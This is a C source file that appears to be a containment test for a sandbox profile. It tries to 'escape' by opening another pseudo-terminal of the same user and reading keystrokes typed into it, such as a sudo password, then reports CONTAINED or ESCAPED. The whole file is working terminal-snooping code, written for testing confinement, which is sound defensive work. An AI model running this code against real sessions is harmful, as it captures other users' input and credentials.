/*
 * Escape attempt (candidate): read the keyboard input of another terminal
 * of the same user on the host.  The default profile grants read, write
 * and ioctl on all of /dev/pts (for the program's own terminal); every
 * other pseudo-terminal of the user (an ssh or terminal-emulator session,
 * mode 0620, owner the user) is reachable too.  The program opens the
 * terminal named in argv[1] and reads what is typed into it; a reader
 * there races the session's own shell for every key (a password typed to
 * sudo, say).  Success is input read from that terminal.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct pollfd p;
	char buf[128];
	ssize_t n;
	int fd;

	if (argc != 2) {
		fprintf(stderr, "usage: %s /dev/pts/N\n", argv[0]);
		return 2;
	}
	fd = open(argv[1], O_RDWR | O_NOCTTY);
	if (fd < 0) {
		printf("CONTAINED: open %s: %s\n", argv[1], strerror(errno));
		return 0;
	}
	p = (struct pollfd){ .fd = fd, .events = POLLIN };
	if (poll(&p, 1, 10000) != 1) {
		printf("CONTAINED: nothing to read on %s\n", argv[1]);
		return 0;
	}
	n = read(fd, buf, sizeof(buf) - 1);
	if (n <= 0) {
		printf("CONTAINED: read %s: %s\n", argv[1], strerror(errno));
		return 0;
	}
	buf[n] = '\0';
	buf[strcspn(buf, "\r\n")] = '\0';
	printf("ESCAPED: read \"%s\" typed into %s\n", buf, argv[1]);
	return 0;
}
